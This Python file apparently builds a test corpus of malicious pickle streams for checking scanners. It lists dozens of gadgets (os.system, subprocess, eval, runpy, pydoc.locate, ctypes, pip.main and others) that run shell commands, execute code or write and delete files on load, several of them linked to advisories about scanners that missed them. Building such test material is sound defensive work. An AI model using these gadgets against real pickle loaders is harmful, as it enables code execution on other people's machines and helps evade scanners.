"""Functions that do what their caller wants: in the standard library, and in what people install.

All of them are called with one REDUCE or a few; nothing about the stream is odd.  Many stand for
an advisory about a scanner that did not know them.
"""
import marshal

from assemble import (
    ARGV, EVAL, EXEC, MARKER, MODULE, PYTHON, SCRIPT, SHELL, SYSTEM, build, call, get, kept,
    namespace, new, new_ex, partial, ref, steps, stream)
from technique import Family

family = Family("gadget")

COMPILED = call(ref("builtins", "compile"), PYTHON, "x", "exec")
# Connections go to a port of this machine where nobody listens.
CLOSED = ("127.0.0.1", 9)


def add(name, what, piece, **more):
    family.add(name, what, stream(piece), **more)


def method(module, name, target, *arguments):
    """A method called as a function of its class."""
    return call(ref(module, name), target, *arguments)


def made(module, name, *arguments):
    return call(ref(module, name), *arguments)


def builtins():
    def add_builtin(name, what, piece):
        add(f"builtins-{name}", what, piece)

    listed = [("eval", call(EVAL, PYTHON)), ("exec", call(EXEC, PYTHON)),
              ("compile", call(EXEC, COMPILED)),
              ("getattr", call(call(ref("builtins", "getattr"),
                                    call(ref("builtins", "__import__"), "os"), "system"), SHELL)),
              ("open", call(ref("builtins", "open"), MARKER, "w")),
              ("map", call(ref("builtins", "list"), call(ref("builtins", "map"), EVAL, [PYTHON]))),
              ("filter", call(ref("builtins", "list"),
                              call(ref("builtins", "filter"), EVAL, [PYTHON]))),
              ("iter", call(ref("builtins", "next"),
                            call(ref("builtins", "iter"), partial(EVAL, PYTHON), 1))),
              ("max-key", call(new_ex(ref("functools", "partial"),
                                      (ref("builtins", "max"), [PYTHON, "None"]),
                                      {"key": EVAL})))]
    for name, piece in listed:
        add_builtin(name, f"builtins.{name.partition('-')[0]} of the payload", piece)
    add("builtins-import", "__import__ of a module beside the file",
        call(ref("builtins", "__import__"), MODULE), beside=[SCRIPT])
    add_builtin("vars", "vars of the builtins, and the function out of them",
                call(made("operator", "getitem",
                          call(ref("builtins", "vars"), call(ref("builtins", "__import__"),
                                                             "builtins")), "eval"), PYTHON))
    add_builtin("setattr", "setattr gives a module's function another meaning",
                steps(call(ref("builtins", "setattr"), ref("base64", "binascii"), "hexlify", EVAL),
                      call(ref("binascii", "hexlify"), PYTHON)))
    type_ = ref("builtins", "type")
    add_builtin("type-del", "type() makes a class with __del__; its instance goes away",
                steps(call(call(type_, "T", (), {"__del__": partial(EVAL, PYTHON)})), None))
    add_builtin("type-init-subclass", "type() makes a class with __init_subclass__, and a subclass",
                call(type_, "B", (call(type_, "A", (), {"__init_subclass__":
                                                        partial(EVAL, PYTHON)}),), {}))
    add_builtin("type-call", "type() makes a class with __call__, and its instance is called",
                call(call(call(type_, "T", (), {"__call__": EVAL})), PYTHON))
    add_builtin("type-iter", "type() makes a class with __iter__, and list asks it",
                call(ref("builtins", "list"),
                     call(call(type_, "T", (), {"__iter__": partial(EVAL, PYTHON)}))))
    add_builtin("type-repr", "type() makes a class with __repr__, and str.format asks it",
                call(ref("builtins", "str.format"), "{}",
                     call(call(type_, "T", (), {"__repr__": partial(EVAL, PYTHON)}))))
    add_builtin("type-length", "type() makes a class with __len__, and bool asks it",
                call(ref("builtins", "bool"),
                     call(call(type_, "T", (), {"__len__": partial(EVAL, PYTHON)}))))
    add_builtin("type-metaclass", "a metaclass with __getitem__, asked by operator.getitem",
                made("operator", "getitem",
                     call(call(type_, "M", (type_,), {"__getitem__": EVAL}), "T", (), {}), PYTHON))


def processes():
    for name in ("system", "popen"):
        add(f"os-{name}", f"os.{name} runs a shell", call(ref("os", name), SHELL))
    add("os-execvp", "os.execvp becomes another program", call(ref("os", "execvp"), "touch", ARGV))
    add("os-execlp", "os.execlp becomes another program",
        call(ref("os", "execlp"), "touch", *ARGV))
    add("os-spawnvp", "os.spawnvp starts a program", call(ref("os", "spawnvp"), 0, "touch", ARGV))
    add("os-spawnlp", "os.spawnlp starts a program",
        call(ref("os", "spawnlp"), 0, "touch", *ARGV))
    add("os-posix-spawnp", "os.posix_spawnp starts a program",
        call(ref("os", "posix_spawnp"), "touch", ARGV, ref("os", "environ")))
    add("posix-system", "posix.system, what os.system really is",
        call(ref("posix", "system"), SHELL))
    add("posix-spawn", "posix.posix_spawn starts a program",
        call(ref("posix", "posix_spawn"), "/bin/sh", ["sh", "-c", SHELL],
             ref("os", "environ")))
    add("pty-spawn", "pty.spawn runs a program in a terminal of its own",
        call(ref("pty", "spawn"), ARGV), source="GHSA-r7v6-mfhq-g3m2")
    for name in ("Popen", "call", "run", "check_call", "check_output"):
        add(f"subprocess-{name.lower().replace('_', '-')}", f"subprocess.{name} starts a program",
            call(ref("subprocess", name), ARGV))
    for name in ("getoutput", "getstatusoutput"):
        add(f"subprocess-{name}", f"subprocess.{name} runs a shell",
            call(ref("subprocess", name), SHELL))
    add("asyncio-subprocess", "asyncio runs a coroutine that starts a program",
        call(ref("asyncio", "run"), call(ref("asyncio", "create_subprocess_exec"), *ARGV)))
    add("asyncio-subprocess-shell", "asyncio runs a coroutine that runs a shell",
        call(ref("asyncio", "run"), call(ref("asyncio", "create_subprocess_shell"), SHELL)))
    add("asyncio-unix-transport", "asyncio's transport starts a program",
        method("asyncio.unix_events", "_UnixSubprocessTransport._start", namespace(), ARGV, False,
               None, None, None, 0), source="CVE-2025-10157")
    add("asyncio-call-soon", "an event loop is given a function and run until a time",
        steps(kept(1, call(ref("asyncio", "new_event_loop"))),
              method("asyncio.base_events", "BaseEventLoop.call_soon", get(1), EVAL, PYTHON),
              method("asyncio.base_events", "BaseEventLoop.call_soon", get(1),
                     call(ref("operator", "methodcaller"), "stop"), get(1)),
              method("asyncio.base_events", "BaseEventLoop.run_forever", get(1))))
    add("multiprocessing-spawnv", "multiprocessing.util.spawnv_passfds starts a program",
        call(ref("multiprocessing.util", "spawnv_passfds"), b"/bin/sh",
             [b"sh", b"-c", SHELL.encode()], ()), source="GHSA-q5qq-mvfm-j35x")
    run_this = {"_target": EVAL, "_args": (PYTHON,), "_kwargs": {}}
    add("multiprocessing-process-run", "Process.run calls the target of what it is given",
        method("multiprocessing.process", "BaseProcess.run", namespace(**run_this)))
    add("multiprocessing-process-start", "Process.start forks and calls the target",
        method("multiprocessing.process", "BaseProcess.start",
               made("multiprocessing.context", "ForkProcess", None, EVAL, "name", (PYTHON,))))
    add("multiprocessing-mapstar", "multiprocessing.pool.mapstar maps a function",
        call(ref("multiprocessing.pool", "mapstar"), (EVAL, [PYTHON])))
    add("multiprocessing-starmapstar", "multiprocessing.pool.starmapstar maps a function",
        call(ref("multiprocessing.pool", "starmapstar"), (EVAL, [(PYTHON,)])))
    add("multiprocessing-prepare", "multiprocessing.spawn.prepare runs a main module's file",
        call(ref("multiprocessing.spawn", "prepare"), {"init_main_from_path": SCRIPT}),
        beside=[SCRIPT])
    add("multiprocessing-loads", "a pickle inside, loaded by multiprocessing.reduction",
        call(ref("multiprocessing.reduction", "ForkingPickler.loads"),
             stream(call(SYSTEM, SHELL))))
    add("multiprocessing-finalize", "multiprocessing.util.Finalize calls a function",
        call(call(ref("multiprocessing.util", "Finalize"), None, EVAL, (PYTHON,), None, 1)))
    add("threading-thread-run", "Thread.run calls the target of what it is given",
        method("threading", "Thread.run", namespace(**run_this)))
    add("threading-thread-start", "a thread is made and started",
        method("threading", "Thread.start",
               made("threading", "Thread", None, EVAL, "name", (PYTHON,))))
    add("threading-timer", "a timer is made and started",
        method("threading", "Thread.start", made("threading", "Timer", 0, EVAL, [PYTHON])))
    add("thread-start-new", "_thread.start_new_thread",
        steps(call(ref("_thread", "start_new_thread"), SYSTEM, (SHELL,)),
              call(ref("time", "sleep"), 0.1)))
    add("futures-work-item", "concurrent.futures: a work item is run",
        method("concurrent.futures.thread", "_WorkItem.run",
               made("concurrent.futures.thread", "_WorkItem",
                    call(ref("concurrent.futures", "Future")), EVAL, (PYTHON,), {})))
    add("sched-scheduler", "sched: an event is entered and run",
        steps(kept(1, call(ref("sched", "scheduler"))),
              method("sched", "scheduler.enter", get(1), 0, 1, EVAL, (PYTHON,)),
              method("sched", "scheduler.run", get(1))))
    pipe = call(ref("operator", "getitem"), get(1), 0), call(ref("operator", "getitem"), get(1), 1)
    add("posixsubprocess-module", "subprocess's helper starts a program, spelled for Python 3.11",
        steps(kept(1, call(ref("os", "pipe"))),
              call(ref("_posixsubprocess", "fork_exec"), ARGV, [b"/usr/bin/touch", b"/bin/touch"],
                   True, (), None, None, -1, -1, -1, -1, -1, -1, *pipe, False, False, -1, None,
                   None, None, -1, None, True)), python="==3.11", source="GHSA-m6fh-58r7-x697")
    add("uuid-command", "uuid runs a command to learn of network cards",
        call(ref("uuid", "_get_command_stdout"), *ARGV))
    add("osx-read-output", "_osx_support._read_output runs a shell",
        call(ref("_osx_support", "_read_output"), SHELL))
    add("bootsubprocess", "what the build uses for subprocess starts a program",
        method("_bootsubprocess", "Popen.wait",
               call(ref("_bootsubprocess", "Popen"), ["/bin/sh", "-c", SHELL])), python="==3.11")
    add("ctypes-util", "ctypes.util.find_library asks gcc and ldconfig",
        call(ref("ctypes.util", "find_library"), "brinery-no-such-library"),
        proof="subprocess.Popen")
    add("platform-processor", "platform asks a program for the processor's name",
        call(ref("platform", "_Processor.from_subprocess")), proof="subprocess.Popen")
    add("webbrowser-generic", "webbrowser starts what it takes for a browser",
        method("webbrowser", "GenericBrowser.open", made("webbrowser", "GenericBrowser", ARGV),
               "x"))
    add("webbrowser-background", "webbrowser starts what it takes for a browser, in the background",
        method("webbrowser", "BackgroundBrowser.open",
               made("webbrowser", "BackgroundBrowser", ARGV), "x"))
    add("imaplib-stream", "imaplib's stream is a command",
        call(ref("imaplib", "IMAP4_stream"), SHELL))
    add("pipes-template", "pipes.Template runs a pipeline of shell commands",
        steps(kept(1, call(ref("pipes", "Template"))),
              method("pipes", "Template.append", get(1), SHELL, "--"),
              method("pipes", "Template.copy", get(1), "brinery-victim", "copied")),
        python="<3.13")
    add("pydoc-pipepager", "pydoc.pipepager runs a shell",
        call(ref("pydoc", "pipepager"), "text", SHELL), source="GHSA-5hvc-6wx8-mvv4")
    add("pydoc-tempfilepager", "pydoc.tempfilepager runs a shell",
        call(ref("pydoc", "tempfilepager"), "text", f"{SHELL};:"))
    add("distutils-spawn", "distutils.spawn.spawn starts a program",
        call(ref("distutils.spawn", "spawn"), ARGV), needs=["distutils"], python="<3.12")
    add("setuptools-spawn", "setuptools' copy of distutils starts a program",
        call(ref("setuptools._distutils.spawn", "spawn"), ARGV), needs=["setuptools"])
    add("test-support-script", "test.support.script_helper runs Python with arguments",
        call(ref("test.support.script_helper", "assert_python_ok"), "-c", PYTHON),
        needs=["test.support"])


def operators():
    module = call(ref("builtins", "__import__"), "os")
    for spelled in ("operator", "_operator"):
        plain = spelled.strip("_")
        prefix = "c-" if spelled != plain else ""
        source = "GHSA-955r-x9j8-7rhh" if prefix else "GHSA-m273-6v24-x4m4"
        add(f"{prefix}operator-attrgetter", f"{spelled}.attrgetter fetches a function of a module",
            call(call(call(ref(spelled, "attrgetter"), "system"), module), SHELL), source=source)
        add(f"{prefix}operator-methodcaller", f"{spelled}.methodcaller calls a module's function",
            call(call(ref(spelled, "methodcaller"), "system", SHELL), module), source=source)
        add(f"{prefix}operator-itemgetter", f"{spelled}.itemgetter fetches from the builtins",
            call(call(call(ref(spelled, "itemgetter"), "eval"), ref("builtins", "__dict__")),
                 PYTHON))
    add("operator-getitem", "operator.getitem fetches from the builtins",
        call(made("operator", "getitem", ref("builtins", "__dict__"), "eval"), PYTHON))
    add("operator-call", "operator.call calls", call(ref("operator", "call"), EVAL, PYTHON),
        python=">=3.11")
    add("operator-concat", "operator.concat puts the name together",
        call(call(ref("builtins", "getattr"), module,
                  call(ref("operator", "concat"), "sys", "tem")), SHELL))
    add("functools-partial", "functools.partial, called", call(partial(EVAL, PYTHON)))
    add("functools-partial-subclass", "a subclass of functools.partial, called",
        call(call(call(ref("builtins", "type"), "P", (ref("functools", "partial"),), {}),
                  EVAL, PYTHON)))
    add("functools-reduce", "functools.reduce of a function over two values",
        call(ref("functools", "reduce"), EVAL, [PYTHON, {}]))
    add("functools-lru-cache", "functools.lru_cache around a function, called",
        call(call(ref("functools", "lru_cache"), EVAL), PYTHON))
    add("functools-cmp-to-key", "functools.cmp_to_key compares by a function",
        call(ref("operator", "lt"), call(call(ref("functools", "cmp_to_key"), EVAL), PYTHON),
             call(call(ref("functools", "cmp_to_key"), EVAL), {})))
    add("functools-singledispatch", "functools.singledispatch around a function, called",
        call(call(ref("functools", "singledispatch"), EVAL), PYTHON))
    add("functools-cached-property", "functools.cached_property calls its function",
        method("functools", "cached_property.__get__",
               build(call(ref("functools", "cached_property"), ref("functools", "partial")),
                     {"func": call(ref("operator", "methodcaller"), "close"), "attrname": "x"}),
               namespace(close=partial(EVAL, PYTHON))))
    for name, arguments in (("starmap", (EVAL, [(PYTHON,)])), ("takewhile", (EVAL, [PYTHON])),
                            ("dropwhile", (EVAL, [PYTHON])), ("filterfalse", (EVAL, [PYTHON])),
                            ("groupby", ([PYTHON], EVAL)),
                            ("accumulate", ([PYTHON, {}], EVAL))):
        add(f"itertools-{name}", f"itertools.{name} calls its function",
            call(ref("builtins", "list"), call(ref("itertools", name), *arguments)))
    add("collections-defaultdict", "a defaultdict's factory is called by a look-up",
        made("operator", "getitem", call(ref("collections", "defaultdict"),
                                         partial(EVAL, PYTHON)), "x"))
    add("collections-chainmap", "a ChainMap passes the look-up on to a defaultdict",
        made("operator", "getitem",
             call(ref("collections", "ChainMap"),
                  call(ref("collections", "defaultdict"), partial(EVAL, PYTHON))), "x"))
    add("collections-userlist", "a UserList is filled from a map",
        call(ref("collections", "UserList"), call(ref("builtins", "map"), EVAL, [PYTHON])))
    add("collections-deque-of-map", "a deque is filled from a map",
        call(ref("collections", "deque"), call(ref("builtins", "map"), EVAL, [PYTHON])))
    add("collections-counter-of-map", "a Counter counts what a map gives",
        call(ref("collections", "Counter"), call(ref("builtins", "map"), EVAL, [PYTHON])))
    add("collections-ordereddict-of-map", "an OrderedDict is filled from a map",
        call(ref("collections", "OrderedDict"), call(ref("builtins", "map"), EVAL, [PYTHON])))
    add("heapq-key", "heapq.nsmallest calls its key",
        call(ref("heapq", "nsmallest"), 1, [PYTHON], EVAL))
    add("copy-reconstruct", "copy._reconstruct calls what a reduce value says",
        call(ref("copy", "_reconstruct"), None, None, EVAL, (PYTHON,)))
    add("copy-copy", "copy.copy asks an object's own __reduce_ex__",
        call(ref("copy", "copy"),
             call(call(ref("builtins", "type"), "T", (ref("builtins", "dict"),),
                       {"__copy__": partial(EVAL, PYTHON)}))))
    add("contextlib-exitstack", "contextlib.ExitStack calls back when it closes",
        steps(kept(1, call(ref("contextlib", "ExitStack"))),
              method("contextlib", "ExitStack.callback", get(1), EVAL, PYTHON),
              method("contextlib", "ExitStack.close", get(1))))
    add("types-methodtype", "types.MethodType binds a function and its argument",
        call(call(ref("types", "MethodType"), EVAL, PYTHON)))
    add("types-functiontype", "types.FunctionType makes a function of compiled code",
        call(call(ref("types", "FunctionType"), COMPILED, {})))
    add("types-functiontype-marshal", "types.FunctionType of code that marshal reads",
        call(call(ref("types", "FunctionType"),
                  call(ref("marshal", "loads"), marshal.dumps(compile(PYTHON, "x", "exec"))), {})),
        python="==3.11", source="GHSA-565g-hwwr-4pp3")
    add("types-codetype", "types.CodeType: code is put together from its parts",
        call(call(ref("types", "FunctionType"),
                  call(ref("types", "CodeType.replace"), COMPILED), {})))
    add("weakref-finalize", "weakref.finalize calls a function when an object goes away",
        steps(kept(1, namespace()),
              call(ref("weakref", "finalize"), get(1), EVAL, PYTHON)))
    add("atexit-register", "atexit.register calls a function at exit",
        call(ref("atexit", "register"), EVAL, PYTHON), source="GHSA-m6fh-58r7-x697")
    add("codecs-register", "codecs.register: import_module searches for encodings",
        steps(call(ref("codecs", "register"), ref("importlib", "import_module")),
              call(ref("codecs", "lookup"), MODULE)), beside=[SCRIPT])
    add("copyreg-pickle", "copyreg.pickle: a reducer is registered, and copy.copy asks it",
        steps(call(ref("copyreg", "pickle"), ref("collections", "OrderedDict"),
                   partial(EVAL, PYTHON)),
              call(ref("copy", "copy"), call(ref("collections", "OrderedDict")))))


def importers():
    def add_import(name, what, piece, beside=(SCRIPT,), **more):
        add(name, what, piece, beside=list(beside), **more)

    add_import("importlib-import-module", "importlib.import_module of a module beside the file",
               call(ref("importlib", "import_module"), MODULE), source="GHSA-q5qq-mvfm-j35x")
    add_import("importlib-import", "importlib.__import__",
               call(ref("importlib", "__import__"), MODULE))
    add_import("importlib-gcd-import", "importlib._bootstrap._gcd_import",
               call(ref("importlib._bootstrap", "_gcd_import"), MODULE))
    add_import("importlib-source-loader", "a source file loader, asked to load",
               method("importlib.machinery", "SourceFileLoader.load_module",
                      made("importlib.machinery", "SourceFileLoader", MODULE, SCRIPT)))
    add_import("importlib-spec", "a spec and a module from it, and the loader runs it",
               steps(kept(1, call(ref("importlib.util", "spec_from_file_location"), MODULE,
                                  SCRIPT)),
                     call(ref("importlib._bootstrap", "_load"), get(1))))
    add_import("importlib-entry-point", "importlib.metadata: an entry point is loaded",
               method("importlib.metadata", "EntryPoint.load",
                      made("importlib.metadata", "EntryPoint", "x", f"{MODULE}:Run", "group")))
    add_import("importlib-resources", "importlib.resources.files imports its package",
               call(ref("importlib.resources", "files"), "brinery_package"),
               ["brinery_package/__init__.py", "brinery_package/inner.py"])
    add("importlib-chain", "importlib.import_module of os, and its function",
        call(call(ref("builtins", "getattr"), call(ref("importlib", "import_module"), "os"),
                  "system"), SHELL))
    add_import("imp-load-source", "imp.load_source runs a file",
               call(ref("imp", "load_source"), MODULE, SCRIPT), python="<3.12")
    add_import("zipimport", "zipimport.zipimporter loads a module from an archive",
               method("zipimport", "zipimporter.load_module",
                      made("zipimport", "zipimporter", "brinery_modules.zip"), "brinery_zipped"),
               ["brinery_modules.zip"])
    add("pkgutil-resolve-name", "pkgutil.resolve_name finds any function by name",
        call(call(ref("pkgutil", "resolve_name"), "os:system"), SHELL),
        source="GHSA-vvpj-8cmc-gx39")
    add_import("pkgutil-get-data", "pkgutil.get_data imports the package",
               call(ref("pkgutil", "get_data"), "brinery_package", "inner.py"),
               ["brinery_package/__init__.py", "brinery_package/inner.py"])
    add("pydoc-locate", "pydoc.locate finds any function by name",
        call(call(ref("pydoc", "locate"), "os.system"), SHELL), source="GHSA-5hvc-6wx8-mvv4")
    add_import("pydoc-importfile", "pydoc.importfile runs a file",
               call(ref("pydoc", "importfile"), SCRIPT))
    add_import("pydoc-safeimport", "pydoc.safeimport imports a module",
               call(ref("pydoc", "safeimport"), MODULE))
    add_import("runpy-run-path", "runpy.run_path runs a file",
               call(ref("runpy", "run_path"), SCRIPT), source="GHSA-wfq2-52f7-7qvj")
    add_import("runpy-run-module", "runpy.run_module runs a module",
               call(ref("runpy", "run_module"), MODULE))
    add("runpy-run-code", "runpy._run_code runs code",
        call(ref("runpy", "_run_code"), COMPILED, {}))
    target = call(ref("unittest.mock", "_get_target"), "os.system")
    add("unittest-mock-target", "unittest.mock finds the module of any function by name",
        call(call(ref("builtins", "getattr"), call(made("operator", "getitem", target, 0)),
                  "system"), SHELL))
    add_import("unittest-loader", "unittest's loader imports the module of a test",
               method("unittest.loader", "TestLoader.loadTestsFromName",
                      made("unittest.loader", "TestLoader"), MODULE))
    add("unittest-function", "unittest runs a function as a test",
        method("unittest.case", "FunctionTestCase.runTest",
               made("unittest.case", "FunctionTestCase", partial(EVAL, PYTHON))))
    add_import("site-addpackage", "site.addpackage runs a line of a .pth file",
               call(ref("site", "addpackage"), ".", "brinery.pth", None), ["brinery.pth"],
               source="GHSA-m6fh-58r7-x697")
    add_import("site-addsitedir", "site.addsitedir runs the .pth files of a folder",
               call(ref("site", "addsitedir"), "."), ["brinery.pth"])
    add_import("logging-fileconfig", "logging.config.fileConfig evaluates what a file says",
               call(ref("logging.config", "fileConfig"), "brinery-logging.ini"),
               ["brinery-logging.ini"])
    add("logging-dictconfig", "logging.config.dictConfig makes a handler that opens a file",
        call(ref("logging.config", "dictConfig"),
             {"version": 1, "handlers": {"h": {"class": "logging.FileHandler",
                                               "filename": MARKER}}}))
    add("logging-resolve", "logging.config's configurator finds any function by name",
        call(method("logging.config", "BaseConfigurator.resolve",
                    made("logging.config", "BaseConfigurator", {}), "os.system"), SHELL))
    add("logging-filehandler", "logging.FileHandler opens a file to write",
        call(ref("logging", "FileHandler"), MARKER))
    add_import("doctest-testfile", "doctest.testfile runs the examples of a file",
               call(ref("doctest", "testfile"), "brinery-doctest.txt", False),
               ["brinery-doctest.txt"])


def runners():
    """Profilers, debuggers and the like, which run what they are given."""
    add("timeit-timeit", "timeit.timeit runs a statement",
        call(ref("timeit", "timeit"), PYTHON, "pass", ref("time", "time"), 1),
        source="GHSA-v7x6-rv5q-mhwc")
    add("timeit-repeat", "timeit.repeat runs a statement",
        call(ref("timeit", "repeat"), PYTHON, "pass", ref("time", "time"), 1, 1))
    add("timeit-main", "timeit.main runs a statement from its arguments",
        call(ref("timeit", "main"), ["-n", "1", "-r", "1", PYTHON]))
    add("profile-run", "profile.run runs a statement", call(ref("profile", "run"), PYTHON, "p"))
    add("profile-method", "profile.Profile.run, by a dotted name",
        method("profile", "Profile.run", call(ref("profile", "Profile")), PYTHON))
    add("cprofile-run", "cProfile.run runs a statement",
        call(ref("cProfile", "run"), PYTHON, "p"), source="GHSA-p523-jq9w-64x9")
    add("cprofile-runctx", "cProfile.runctx runs a statement",
        call(ref("cProfile", "runctx"), PYTHON, {}, {}, "p"))
    add("cprofile-method", "cProfile.Profile.runcall calls a function",
        method("cProfile", "Profile.runcall", call(ref("cProfile", "Profile")), EVAL, PYTHON))
    tracer = call(ref("trace", "Trace"), 0, 0)
    add("trace-run", "trace.Trace.run runs a statement", method("trace", "Trace.run", tracer,
                                                                PYTHON))
    add("trace-runctx", "trace.Trace.runctx runs a statement",
        method("trace", "Trace.runctx", tracer, PYTHON, {}, {}))
    add("trace-runfunc", "trace.Trace.runfunc calls a function",
        method("trace", "Trace.runfunc", tracer, EVAL, PYTHON))
    add("bdb-run", "bdb.Bdb.run runs a statement",
        method("bdb", "Bdb.run", call(ref("bdb", "Bdb")), PYTHON), source="GHSA-4675-36f9-wf6r")
    add("bdb-runeval", "bdb.Bdb.runeval evaluates",
        method("bdb", "Bdb.runeval", call(ref("bdb", "Bdb")), PYTHON))
    add("bdb-runcall", "bdb.Bdb.runcall calls a function",
        method("bdb", "Bdb.runcall", call(ref("bdb", "Bdb")), EVAL, PYTHON))
    add("pdb-default", "pdb.Pdb.default runs a line in a frame",
        method("pdb", "Pdb.default",
               build(call(ref("pdb", "Pdb")),
                     {"curframe": namespace(f_globals={}), "curframe_locals": {}}), PYTHON))
    add("doctest-debug-script", "doctest.debug_script runs a script",
        call(ref("doctest", "debug_script"), PYTHON, True, {}))
    add("doctest-examples", "doctest.run_docstring_examples runs the examples of a text",
        call(ref("doctest", "run_docstring_examples"), f">>> {PYTHON}\n", {}))
    interpreter = call(ref("code", "InteractiveInterpreter"))
    add("code-runsource", "code.InteractiveInterpreter.runsource runs source",
        method("code", "InteractiveInterpreter.runsource", interpreter, PYTHON),
        source="GHSA-q5qq-mvfm-j35x")
    add("code-runcode", "code.InteractiveInterpreter.runcode runs code",
        method("code", "InteractiveInterpreter.runcode", interpreter, COMPILED))
    add("code-push", "code.InteractiveConsole.push runs a line",
        method("code", "InteractiveConsole.push", call(ref("code", "InteractiveConsole")),
               PYTHON))
    add("codeop-compile", "codeop.compile_command compiles, exec runs",
        call(EXEC, call(ref("codeop", "compile_command"), PYTHON)))
    add("ast-parse", "ast.parse, compile and exec",
        call(EXEC, call(ref("builtins", "compile"), call(ref("ast", "parse"), PYTHON), "x",
                        "exec")))
    add("cmd-onecmd", "cmd.Cmd.onecmd calls the method for a word",
        method("cmd", "Cmd.onecmd", build(call(ref("cmd", "Cmd")), {"do_x": EVAL}),
               f"x {PYTHON}"))
    add("typing-forwardref", "typing evaluates a forward reference",
        call(ref("typing", "_eval_type"), call(ref("typing", "ForwardRef"), PYTHON), {}, {}),
        python="<3.14")
    add("typing-get-type-hints", "typing.get_type_hints evaluates annotations",
        call(ref("typing", "get_type_hints"), namespace(__annotations__={"x": PYTHON})),
        python="<3.14")
    add("dataclasses-create-fn", "dataclasses puts a function together from texts",
        call(ref("dataclasses", "_create_fn"), "f", [f"x={PYTHON}"], ["pass"]), python="<3.13")
    add("namedtuple-defaults", "a namedtuple's _make runs through a map",
        call(call(ref("builtins", "getattr"),
                  call(ref("collections", "namedtuple"), "T", ["a"]), "_make"),
             call(ref("builtins", "map"), EVAL, [PYTHON])))
    add("subinterpreter", "_xxsubinterpreters.run_string runs source",
        call(ref("_xxsubinterpreters", "run_string"),
             call(ref("_xxsubinterpreters", "create")), PYTHON), python="<3.13",
        source="GHSA-6ggj-6f2q-f7mx")
    add("testcapi-subinterpreter", "_testcapi.run_in_subinterp runs source",
        call(ref("_testcapi", "run_in_subinterp"), PYTHON), needs=["_testcapi"])
    add("ctypes-pythonapi", "ctypes.pythonapi: the interpreter's own PyRun_SimpleString",
        call(ref("ctypes", "pythonapi.PyRun_SimpleString"), PYTHON.encode()))
    add("ctypes-cdll", "ctypes.CDLL: the C library's system",
        call(call(ref("builtins", "getattr"), call(ref("ctypes", "CDLL"), None), "system"),
             SHELL.encode()), source="GHSA-5hvc-6wx8-mvv4")
    add("ctypes-dlopen", "_ctypes.dlopen loads a library",
        call(ref("_ctypes", "dlopen"), "libc.so.6", 2), proof="ctypes.dlopen")
    add("cffi-free", "ctypes.cdll.LoadLibrary loads a library",
        call(ref("ctypes", "cdll.LoadLibrary"), "libc.so.6"), proof="ctypes.dlopen")
    add("lib2to3-grammar-loads", "lib2to3: a grammar is a pickle",
        method("lib2to3.pgen2.grammar", "Grammar.loads",
               call(ref("lib2to3.pgen2.grammar", "Grammar")), stream(call(SYSTEM, SHELL))),
        needs=["lib2to3"], python="<3.13")
    add("lib2to3-make-label", "lib2to3: the parser generator evaluates a label",
        method("lib2to3.pgen2.pgen", "ParserGenerator.make_label", namespace(),
               namespace(labels=[]), f"''or {PYTHON}"), needs=["lib2to3"], python="<3.13")
    add("idlelib-run", "idlelib: the shell's executive runs code",
        method("idlelib.run", "Executive.runcode", namespace(locals={}), COMPILED),
        needs=["idlelib.run"])
    add("idlelib-calltip", "idlelib.calltip.get_entity evaluates",
        call(ref("idlelib.calltip", "get_entity"), PYTHON), needs=["idlelib.calltip"])
    add("pip-main", "pip.main takes a command line",
        call(ref("pip", "main"), ["--log", MARKER, "config", "debug"]), needs=["pip"],
        source="CVE-2025-1716")
    add("ensurepip-run-pip", "ensurepip._run_pip runs pip in a process",
        call(ref("ensurepip", "_run_pip"), ["--log", MARKER, "config", "debug"]),
        needs=["ensurepip", "pip"], source="GHSA-xp4f-hrf8-rxw7")
    add("venv-create", "venv.create makes a folder full of files",
        call(ref("venv", "create"), MARKER), source="GHSA-vqmv-47xg-9wpr")


def files():
    def writes(name, what, piece, **more):
        add(name, what, piece, **more)

    data = b"x"
    path = call(ref("pathlib", "Path"), MARKER)
    writes("io-open", "io.open to write", call(ref("io", "open"), MARKER, "w"))
    writes("io-fileio", "io.FileIO to write", call(ref("io", "FileIO"), MARKER, "w"))
    writes("io-fileio-c", "_io.FileIO to write", call(ref("_io", "FileIO"), MARKER, "w"))
    writes("os-open", "os.open to create", call(ref("os", "open"), MARKER, 0o101))
    writes("os-mkdir", "os.mkdir", call(ref("os", "mkdir"), MARKER))
    writes("os-symlink", "os.symlink", call(ref("os", "symlink"), "brinery-victim", MARKER))
    writes("os-link", "os.link", call(ref("os", "link"), "brinery-victim", MARKER))
    writes("os-rename", "os.rename", call(ref("os", "rename"), "brinery-victim", MARKER))
    writes("os-remove", "os.remove", call(ref("os", "remove"), "brinery-victim"), proof="gone")
    writes("pathlib-write-text", "pathlib.Path.write_text",
           method("pathlib", "Path.write_text", path, "x"))
    writes("pathlib-touch", "pathlib.Path.touch", method("pathlib", "Path.touch", path))
    writes("pathlib-unlink", "pathlib.Path.unlink",
           method("pathlib", "Path.unlink", call(ref("pathlib", "Path"), "brinery-victim")),
           proof="gone")
    writes("pathlib-rename", "pathlib.Path.rename",
           method("pathlib", "Path.rename", call(ref("pathlib", "Path"), "brinery-victim"),
                  MARKER))
    writes("shutil-copyfile", "shutil.copyfile",
           call(ref("shutil", "copyfile"), "brinery-victim", MARKER))
    writes("shutil-move", "shutil.move", call(ref("shutil", "move"), "brinery-victim", MARKER))
    writes("shutil-rmtree", "shutil.rmtree", steps(
        call(ref("os", "mkdir"), "folder"),
        call(ref("shutil", "move"), "brinery-victim", "folder"),
        call(ref("shutil", "rmtree"), "folder")), proof="gone")
    writes("shutil-unpack", "shutil.unpack_archive unpacks an archive",
           call(ref("shutil", "unpack_archive"), "brinery-files.tar", "."),
           beside=["brinery-files.tar"])
    writes("tarfile-extract", "tarfile extracts an archive",
           method("tarfile", "TarFile.extractall",
                  call(ref("tarfile", "open"), "brinery-files.tar"), "."),
           beside=["brinery-files.tar"])
    writes("tarfile-open", "tarfile.open to write", call(ref("tarfile", "open"), MARKER, "w"))
    writes("zipfile-extract", "zipfile extracts an archive",
           method("zipfile", "ZipFile.extractall",
                  call(ref("zipfile", "ZipFile"), "brinery-files.zip"), "."),
           beside=["brinery-files.zip"])
    writes("zipfile-open", "zipfile.ZipFile to write",
           call(ref("zipfile", "ZipFile"), MARKER, "w"))
    for module in ("gzip", "bz2", "lzma"):
        writes(f"{module}-open", f"{module}.open to write", call(ref(module, "open"), MARKER, "wb"))
    writes("codecs-open", "codecs.open to write", call(ref("codecs", "open"), MARKER, "w"))
    writes("argparse-filetype", "argparse.FileType opens a file",
           call(call(ref("argparse", "FileType"), "w"), MARKER))
